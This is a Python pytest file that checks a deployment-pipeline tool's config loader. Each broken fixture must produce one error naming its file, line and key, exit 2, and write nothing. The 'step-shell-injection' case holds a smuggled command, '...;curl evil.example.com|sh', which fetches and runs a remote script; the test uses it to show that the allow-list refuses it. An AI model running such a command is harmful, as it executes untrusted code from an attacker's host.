"""Bad input: one clear problem naming the file, line and key; exit 2; nothing written.

Each directory under tests/fixtures/invalid/ is a small valid configuration with one thing broken
(a comment at the top of the broken file says what). The expected line is found by searching the
file for the offending text, so editing a fixture's comments does not break these tests.
"""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipelines.cli import main
from pipelines.config.loader import load_project
from pipelines.errors import ConfigError, Problem
from tests.support import FIXTURES, ROOT

INVALID = FIXTURES / "invalid"


@dataclass(frozen=True)
class Expect:
    """One expected problem. `line` is text on the offending line, a line number, or None."""

    file: str
    line: str | int | None
    key: str
    message: str


def line_with(file: Path, text: str) -> int:
    """The 1-based number of the one non-comment line of `file` that contains `text`."""
    found = [
        number
        for number, line in enumerate(file.read_text(encoding="utf-8").splitlines(), start=1)
        if text in line and not line.lstrip().startswith("#")
    ]
    assert len(found) == 1, f"{text!r} should be on exactly one line of {file}, found {found}"
    return found[0]


CASES: dict[str, list[Expect]] = {
    "step-shell-injection": [
        Expect(
            "prod.yaml",
            "smoke.check --url",
            "steps.after_deploy[0]",
            "refused by the allow-list: value 'https://shop.example.com/;curl evil.example.com|sh' "
            "of option --url does not match its pattern 'https://[a-z.]+/[a-z]*'",
        )
    ],
    "step-unknown-runner": [
        Expect(
            "prod.yaml",
            "migrator.migrate",
            "steps.before_deploy[0]",
            "refused by the allow-list: unknown runner 'migrator'; known runners: migrate, plan, "
            "smoke",
        )
    ],
    "step-unknown-variable": [
        Expect(
            "prod.yaml",
            "plan.plan --stack",
            "steps.before_approval[0]",
            "#{prod-plan.name}: no earlier step has the namespace 'prod-plan'",
        )
    ],
    "service-named-runner": [
        Expect(
            "pipeline.yaml",
            "  runner-api:",
            "services.runner-api",
            "service names 'runner' and 'runner-…' are reserved for the deploy runner's resources",
        )
    ],
    "service-named-like-an-environment": [
        Expect(
            "pipeline.yaml",
            "  eu-api:",
            "services.eu-api",
            "in dev, this service's resources would be named shop-dev-eu-api, like dev-eu's, "
            "which shares account 222222222222; rename the service or one of the environments",
        )
    ],
    "app-name-s3-refuses": [
        Expect(
            "pipeline.yaml",
            "app: xn--shop",
            "app",
            "'xn--shop' is not an app name (2-24 of a-z, 0-9 and -, starting with a letter, not "
            "ending in -, not starting xn--, sthree- or amzn-s3-demo-, which S3 refuses",
        )
    ],
    "listener-priorities-overlap": [
        Expect(
            "prod.yaml",
            "priority: 10",
            "load_balancer.priority",
            "prod's rule takes priority 10 on the listener staging also uses; choose priorities "
            "that do not overlap",
        )
    ],
    "service-named-like-a-toolchain-stack": [
        Expect(
            "pipeline.yaml",
            "  eu-central-1:",
            "services.eu-central-1",
            "service 'eu-central-1' in artifacts and eu-central-1's artifacts stack would both "
            "be named stack 'shop-artifacts-eu-central-1'; rename one",
        )
    ],
    "service-named-like-a-stack": [
        Expect(
            "pipeline.yaml",
            "  deploy:",
            "services.deploy",
            "service 'deploy' in dev and dev's deploy stack would both be named stack "
            "'shop-dev-deploy'; rename one",
        )
    ],
    "runner-names-too-long": [
        Expect(
            "pipeline.yaml",
            "  database-migrations-runs:",
            "runners.database-migrations-runs",
            "IAM role name 'shop-payments-platformeu-prod-runner-database-migrations-runs-task' "
            "is 66 characters, over AWS's 64",
        )
    ],
    "step-namespace-clash": [
        Expect(
            "prod.yaml",
            "- aa-b.c",
            "steps.before_deploy[1]",
            "its output namespace 'prod-aa-b-c' is an earlier step's too",
        )
    ],
    "hooks-rolling": [
        Expect(
            "staging.yaml",
            "      hooks:",
            "services.web.rollout.hooks",
            "web deploys with strategy rolling in staging, and hooks run at the stages of a "
            "deployment that shifts traffic between two revisions",
        )
    ],
    "hooks-test-stage-without-header": [
        Expect(
            "prod.yaml",
            "post_test_traffic_shift:",
            "services.web.rollout.hooks.post_test_traffic_shift",
            "post_test_traffic_shift comes after test traffic reaches the new revision, and web "
            "has no test_traffic_header in prod",
        )
    ],
    "hooks-unknown-stage": [
        Expect(
            "prod.yaml",
            "production_traffic_shift:",
            "services.web.rollout.hooks.production_traffic_shift",
            "unknown name 'production_traffic_shift'; "
            "did you mean 'post_production_traffic_shift'?",
        )
    ],
    "hooks-step-refused": [
        Expect(
            "prod.yaml",
            "--insecure",
            "services.web.rollout.hooks.post_production_traffic_shift[0]",
            "refused by the allow-list: option '--insecure' is not allowed for smoke.run",
        )
    ],
    "hooks-step-variable": [
        Expect(
            "prod.yaml",
            "#{source.ImageURI}",
            "services.web.rollout.hooks.post_production_traffic_shift[0]",
            "a hook runs outside any pipeline execution, so #{...} variables have nothing",
        )
    ],
    "hooks-codebuild-runner": [
        Expect(
            "pipeline.yaml",
            "- smoke.run",
            "services.web.rollout.hooks.post_test_traffic_shift[0]",
            "smoke runs on CodeBuild; hooks run as ECS tasks the invoker starts",
        )
    ],
    "hooks-on-rollback": [
        Expect(
            "prod.yaml",
            "on_rollback: skip",
            "services.web.rollout.hooks.post_production_traffic_shift[0]",
            "write a hook step as its text alone",
        )
    ],
    "runner-override-unused": [
        Expect(
            "prod.yaml",
            "  migrate:",
            "runners.migrate",
            "no step or hook of prod runs migrate, so these settings would apply to nothing",
        )
    ],
    "runner-override-codebuild": [
        Expect(
            "prod.yaml",
            "  smoke:",
            "runners.smoke",
            "smoke runs on CodeBuild, in the toolchain account, for every environment",
        )
    ],
    "builtin-without-runner-image": [
        Expect(
            "pipeline.yaml",
            "plan: cloudformation-planner",
            "runners.plan",
            "the built-in cloudformation-planner needs `runner.image` in pipeline.yaml",
        )
    ],
    "unknown-builtin-runner": [
        Expect(
            "pipeline.yaml",
            "plan: cloudformation-plan",
            "runners.plan",
            "unknown built-in runner 'cloudformation-plan'; did you mean 'cloudformation-planner'?",
        )
    ],
    "before-approval-without-approval": [
        Expect(
            "dev.yaml",
            "before_approval:",
            "steps.before_approval",
            "dev has no approval to run these before",
        )
    ],
    "codebuild-step-variable": [
        Expect(
            "prod.yaml",
            "smoke.check --url",
            "steps.after_deploy[0]",
            "smoke runs on CodeBuild, where nothing checks arguments again at run time",
        )
    ],
    "image-builder-in-another-account": [
        Expect(
            "prod.yaml",
            "kaniko.build --context",
            "steps.before_deploy[0]",
            "kaniko is the built-in image-builder on ECS, which runs in prod's account "
            "333333333333, and the app's repositories in the toolchain account 111111111111 let "
            "other accounts pull only: build on CodeBuild",
        )
    ],
    "canary-without-load-balancer": [
        Expect(
            "dev.yaml",
            "strategy: canary",
            "services.web.rollout.strategy",
            "strategy canary shifts traffic between two target groups of the load balancer, but "
            "the environment dev has no `load_balancer`",
        )
    ],
    "runner-override-unknown": [
        Expect(
            "prod.yaml",
            "migrat:",
            "runners.migrat",
            "unknown runner 'migrat'; did you mean 'migrate'?",
        )
    ],
    "missing-pipeline-yaml": [Expect("pipeline.yaml", None, "", "file not found")],
    "missing-environments-dir": [Expect("environments", None, "", "no such directory")],
    "invalid-yaml-syntax": [Expect("prod.yaml", "   subnets:", "", "invalid YAML: mapping values")],
    # At the end of the file libyaml points past the last line; the problem names the `{` line.
    "unclosed-brace-at-end": [
        Expect("prod.yaml", "secrets: {DB_PASSWORD", "", "invalid YAML: did not find expected ','")
    ],
    "not-a-mapping": [
        Expect("dev.yaml", '- account: "222222222222"', "", "expected a mapping of keys to values")
    ],
    "misspelt-key": [
        Expect(
            "prod.yaml",
            "requires_aproval: true",
            "requires_aproval",
            "unknown key 'requires_aproval'; did you mean 'requires_approval'?",
        )
    ],
    "unknown-nested-key": [
        Expect(
            "pipeline.yaml",
            "memroy: 512",
            "services.web.memroy",
            "unknown key 'memroy'; did you mean 'memory'?",
        )
    ],
    "duplicate-key": [
        Expect("pipeline.yaml", "port: 8081", "services.web.port", "duplicate key"),
    ],
    "wrong-type": [
        Expect(
            "pipeline.yaml",
            'port: "eighty"',
            "services.web.port",
            "valid integer (got 'eighty')",
        )
    ],
    "fargate-pair": [
        Expect(
            "pipeline.yaml",
            "memory: 4096",
            "services.web.memory",
            "memory 4096 MiB does not fit cpu 256 on Fargate; use 512, 1024 or 2048",
        )
    ],
    "promotion-without-file": [
        Expect(
            "pipeline.yaml",
            "promotion: [dev, staging, prod]",
            "promotion[1]",
            "environment 'staging' has no file",
        )
    ],
    "file-not-in-promotion": [
        Expect("staging.yaml", None, "", "environment 'staging' is not in promotion")
    ],
    "images-and-image": [
        Expect(
            "pipeline.yaml",
            8,  # `images:` (the line `keep_images:` also holds the text)
            "images",
            "write either `image` (one image) or `images` (several, by name), not both",
        )
    ],
    "images-missing": [
        Expect(
            "pipeline.yaml",
            "app: shop",
            "image",
            "missing required key: write `image` (the repository every service runs), or `images`",
        )
    ],
    "image-name-invalid": [
        Expect(
            "pipeline.yaml",
            "  bg-worker:",
            "images.bg-worker",
            "invalid name: 'bg-worker' is not an image name (1-16 of a-z and 0-9, starting with "
            "a letter)",
        ),
        Expect(
            "pipeline.yaml",
            "image: bg-worker",
            "services.worker.image",
            "'bg-worker' is not an image name",
        ),
    ],
    "service-image-missing": [
        Expect(
            "pipeline.yaml",
            25,  # the service's line: it has no `image` key
            "services.worker.image",
            "missing required key: with several images, name the one this service runs "
            "(web, worker)",
        )
    ],
    "service-image-unknown": [
        Expect(
            "pipeline.yaml",
            "image: wroker",
            "services.worker.image",
            "unknown image 'wroker'; did you mean 'worker'? (known: web, worker)",
        )
    ],
    "service-image-with-image": [
        Expect(
            "pipeline.yaml",
            "image: api",
            "services.api.image",
            "a service names its image only with `images`",
        )
    ],
    "image-unused": [
        Expect(
            "pipeline.yaml",
            10,  # `worker:` under `images`
            "images.worker",
            "no service runs image 'worker': its pipeline would deploy nothing",
        )
    ],
    "images-same-repository": [
        Expect(
            "pipeline.yaml",
            11,  # the second `repository: shop-web`
            "images.worker.repository",
            "images 'web' and 'worker' both name repository 'shop-web'; each image needs its own",
        )
    ],
    "step-image-plain": [
        Expect(
            "dev.yaml",
            "- migrate.migrate",
            "steps.before_deploy[0]",
            "with several images, each step names the image whose pipeline runs it: write "
            '`{run: "migrate.migrate", image: NAME}` (web, worker)',
        )
    ],
    "step-image-missing": [
        Expect(
            "dev.yaml",
            "- {run: migrate.migrate, on_rollback: skip}",
            "steps.before_deploy[0].image",
            "missing required key: with several images, name the image whose pipeline runs "
            "this step (web, worker)",
        )
    ],
    "step-image-unknown": [
        Expect(
            "dev.yaml",
            "image: wbe",
            "steps.before_deploy[0].image",
            "unknown image 'wbe'",
        )
    ],
    "step-image-with-image": [
        Expect(
            "staging.yaml",
            "image: web}",
            "steps.before_deploy[0].image",
            "a step names its image only with `images`",
        )
    ],
    "release-tag-deployed-prefix": [
        Expect(
            "pipeline.yaml",
            "release_tag: deployed-latest",
            "image.release_tag",
            "'deployed-latest' starts with 'deployed-', which the release marker's tags use",
        )
    ],
    "environment-tags-clash": [
        Expect(
            "pipeline.yaml",
            "promotion: [dev, prod, prod-previous]",
            "promotion[1]",
            "environments 'prod' and 'prod-previous' would share the image tag "
            "'deployed-prod-previous'",
        )
    ],
    "duplicate-in-promotion": [
        Expect(
            "pipeline.yaml", "promotion: [dev, prod, dev]", "promotion[2]", "'dev' is listed twice"
        )
    ],
    "account-not-12-digits": [
        Expect(
            "dev.yaml",
            'account: "22222222222"',
            "account",
            "'22222222222' is not a 12-digit AWS account ID",
        )
    ],
    "unquoted-account": [
        Expect(
            "dev.yaml",
            "account: 222222222222",
            "account",
            'write the account as a quoted string, e.g. "111111111111"',
        )
    ],
    "unknown-region": [
        Expect("prod.yaml", "region: eu-west-9", "region", "'eu-west-9' is not an AWS region")
    ],
    "invalid-app-name": [
        Expect("pipeline.yaml", "app: Shop_App", "app", "'Shop_App' is not an app name")
    ],
    "secret-other-account": [
        Expect(
            "prod.yaml",
            "DB_PASSWORD",
            "services.web.secrets.DB_PASSWORD",
            "must be in this environment's account 333333333333 and region eu-west-1",
        )
    ],
    "secret-other-region": [
        Expect(
            "prod.yaml",
            "DB_PASSWORD",
            "services.web.secrets.DB_PASSWORD",
            "secret arn:aws:secretsmanager:eu-central-1:333333333333:secret:shop/db must be in",
        )
    ],
    "listener-other-account": [
        Expect(
            "prod.yaml",
            "listener_arn:",
            "load_balancer.listener_arn",
            "the listener must be in this environment's account 333333333333",
        )
    ],
    "undeclared-service": [
        Expect("dev.yaml", "  wbe:", "services.wbe", "unknown service 'wbe'; did you mean 'web'?")
    ],
    "shared-host": [
        Expect(
            "prod.yaml",
            "host: shop.example.com",
            "load_balancer.host",
            "services web, api would share host shop.example.com",
        )
    ],
    # A missing key has no line of its own: the problem points at the top of the mapping.
    "missing-required-key": [
        Expect("dev.yaml", 'account: "222222222222"', "network", "missing required key")
    ],
    "yml-extension": [
        Expect("prod.yml", None, "", "rename to .yaml: only .yaml files are read"),
    ],
    # Too long only in combination, so no single key is to blame: the problem names the file.
    # One message for the pair: every name it makes grows with the same three parts.
    "names-too-long": [
        Expect(
            "production-eu.yaml",
            None,
            "",
            "IAM role name 'shop-checkout-platform-production-eu-payment-webhooks-worker-exec' "
            "is 65 characters, over AWS's 64",
        )
    ],
    "rollout-out-of-range": [
        Expect(
            "pipeline.yaml",
            "health_check_interval: 3",
            "services.web.rollout.health_check_interval",
            "Input should be greater than or equal to 5 (got 3)",
        )
    ],
    "rollout-wrong-unit": [
        Expect(
            "prod.yaml",
            "deregistration_delay: 2m",
            "services.web.rollout.deregistration_delay",
            "write whole seconds as a plain number (120), not '2m'",
        )
    ],
    "rollout-timeout-not-below-interval": [
        Expect(
            "prod.yaml",
            "rollout: {health_check_interval: 5",
            "services.web.rollout",
            "health_check_timeout (5 s) must be shorter than health_check_interval (5 s) (in prod)",
        )
    ],
    "bake-without-alarms": [
        Expect("prod.yaml", "bake_minutes: 15", "bake_minutes", "name at least one alarm")
    ],
    "bake-too-many-alarms": [
        Expect("prod.yaml", "alarms: [a1", "alarms", "bake time watches at most 5 alarms")
    ],
    "permission-wildcard-action": [
        Expect(
            "pipeline.yaml",
            'actions: ["s3:*"]',
            "services.web.permissions[0].actions[0]",
            "'s3:*' is not an IAM action named in full, with no wildcard",
        )
    ],
    "permission-unknown-condition": [
        Expect(
            "pipeline.yaml",
            "StringEqual: {aws:SecureTransport",
            "services.web.permissions[0].conditions.StringEqual",
            "unknown name 'StringEqual'; did you mean 'StringEquals'?",
        )
    ],
    "permission-any-resource": [
        Expect(
            "pipeline.yaml",
            'resources: ["*"]',
            "services.web.permissions[0].resources[0]",
            "'*' alone is not accepted: name the resources",
        )
    ],
    "alias-explosion": [
        Expect("pipeline.yaml", "x0: &x0", "x4", "the file expands to over 100,000 values")
    ],
    "cross-partition": [
        Expect(
            "prod.yaml",
            "region: cn-north-1",
            "region",
            "one pipeline cannot deploy across partitions",
        )
    ],
    "recursive-alias": [
        Expect(
            "pipeline.yaml",
            "command: &cmd [gunicorn, *cmd]",
            "services.web.command[1]",
            "a YAML alias cannot refer to itself",
        )
    ],
    "dash-key": [
        Expect(
            "pipeline.yaml",
            "-cpu: 256",
            "services.web.-cpu",
            "unknown key '-cpu'; did you mean 'cpu'?",
        )
    ],
    "merge-key": [
        Expect("staging.yaml", "<<:", "services.web", "YAML merge keys (<<) are not supported")
    ],
    "empty-pipeline-yaml": [
        Expect("pipeline.yaml", 1, key, "missing required key")
        for key in ("app", "toolchain", "image", "promotion", "services")
    ],
    "invalid-service-name": [
        Expect(
            "pipeline.yaml", "  Web:", "services.Web", "invalid name: 'Web' is not a service name"
        )
    ],
}

# Kinds also run through a real `python -m pipelines`: a missing file, a YAML error, a
# pydantic error and a cross-file check.
CLI_KINDS = ["missing-pipeline-yaml", "invalid-yaml-syntax", "misspelt-key", "shared-host"]


def environments_dir(kind: str) -> Path:
    fixture = INVALID / kind
    return fixture / "environments" if kind == "missing-environments-dir" else fixture


def expected_problems(kind: str) -> list[Problem]:
    directory = environments_dir(kind)
    problems = []
    for expect in CASES[kind]:
        file = directory if expect.file == directory.name else directory / expect.file
        line = line_with(file, expect.line) if isinstance(expect.line, str) else expect.line
        problems.append(Problem(file, line, expect.key, expect.message))
    return problems


def load_problems(directory: Path) -> list[Problem]:
    with pytest.raises(ConfigError) as caught:
        load_project(directory)
    assert str(caught.value) == "\n".join(str(p) for p in caught.value.problems)
    return caught.value.problems


def test_every_fixture_has_a_case_and_a_comment() -> None:
    kinds = sorted(p.name for p in INVALID.iterdir() if p.is_dir())
    assert kinds == sorted(CASES)
    for kind in kinds:
        texts = [p.read_text(encoding="utf-8") for p in (INVALID / kind).iterdir()]
        assert [t for t in texts if "BROKEN:" in t.splitlines()[0]], f"{kind}: say what is broken"


@pytest.mark.parametrize("kind", sorted(CASES))
def test_problem_names_file_line_and_key(kind: str) -> None:
    problems = load_problems(environments_dir(kind))
    expected = expected_problems(kind)

    assert len(problems) == len(expected), "\n".join(str(p) for p in problems)
    for got, want in zip(problems, expected, strict=True):
        assert (got.file, got.line, got.key) == (want.file, want.line, want.key), str(got)
        assert want.message in got.message
        where = f"{want.file}:{want.line}" if want.line else f"{want.file}"
        assert str(got) == (
            f"{where}: {want.key}: {got.message}" if want.key else f"{where}: {got.message}"
        )


def prefix(problem: Problem) -> str:
    """What the CLI prints before a problem's message."""
    where = f"{problem.file}:{problem.line}" if problem.line else f"{problem.file}"
    return f"error: {where}: {problem.key}: " if problem.key else f"error: {where}: "


def assert_reported(stderr: str, kind: str) -> None:
    lines = stderr.splitlines()
    expected = expected_problems(kind)
    assert len(lines) == len(expected), stderr
    for line, want in zip(lines, expected, strict=True):
        assert line.startswith(prefix(want)), line
        assert want.message in line.removeprefix(prefix(want))


def snapshot(root: Path) -> dict[str, tuple[bytes | None, int]]:
    """Every path under `root` with its bytes (None for a directory) and modification time."""
    return {
        str(p.relative_to(root)): (p.read_bytes() if p.is_file() else None, p.stat().st_mtime_ns)
        for p in sorted(root.rglob("*"))
    }


def make_out(tmp_path: Path, existing: bool) -> Path:
    """--out for a test: absent, or holding the templates of an earlier synth."""
    out = tmp_path / "templates"
    if existing:
        out.mkdir()
        (out / "shop-source.json").write_bytes(b'{"Resources": {}}\n')
        (out / "manifest.json").write_bytes(b'{"version": 1}\n')
    return out


EXISTING = pytest.mark.parametrize("existing", [False, True], ids=["no-out", "existing-out"])


@EXISTING
@pytest.mark.parametrize("kind", sorted(CASES))
def test_cli_exits_2_with_the_problem_and_writes_nothing(
    kind: str, existing: bool, tmp_path: Path
) -> None:
    out = make_out(tmp_path, existing)
    before = snapshot(tmp_path)

    result = CliRunner().invoke(
        main, ["synth", "--environments", str(environments_dir(kind)), "--out", str(out)]
    )

    assert isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 2
    assert result.stdout == ""
    assert_reported(result.stderr, kind)
    assert snapshot(tmp_path) == before
    assert out.exists() is existing


@EXISTING
@pytest.mark.parametrize("kind", CLI_KINDS)
def test_cli_subprocess(kind: str, existing: bool, tmp_path: Path) -> None:
    out = make_out(tmp_path, existing)
    before = snapshot(tmp_path)

    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "pipelines",
            "synth",
            "--environments",
            str(environments_dir(kind)),
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=60,
    )

    assert run.returncode == 2, run.stderr
    assert "Traceback" not in run.stderr
    assert run.stdout == ""
    assert_reported(run.stderr, kind)
    assert snapshot(tmp_path) == before
    assert out.exists() is existing
